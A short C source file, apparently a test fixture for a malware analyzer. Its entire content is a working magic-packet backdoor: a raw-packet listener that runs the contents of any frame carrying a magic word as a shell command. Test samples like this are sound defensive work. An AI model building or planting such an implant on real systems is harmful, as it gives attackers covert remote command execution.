/* Test implant: a magic-packet listener. Opens a packet socket (AF_PACKET, SOCK_RAW: sees
 * every frame, no listening port), and when a frame carries a magic word runs the rest of
 * it as a command line through /bin/sh -c. Built for the analyzer tests only; never run it. */
#include "implant.h"

#ifndef AF_PACKET
#define AF_PACKET 17
#endif
#ifndef SOCK_RAW
#define SOCK_RAW 3
#endif

static const char magic[] = "\x7a\x6b\x0d\x13";

int main(void) {
    char frame[1600];
    int s = socket(AF_PACKET, SOCK_RAW, htons(0x0003));
    for (;;) {
        long n = read(s, frame, sizeof frame - 1);
        if (n > 46 && strncmp(frame + 42, magic, 4) == 0) {
            char *argv[] = {"sh", "-c", frame + 46, 0};
            frame[n] = 0;
            execve("/bin/sh", argv, 0);
        }
    }
    return 0;
}
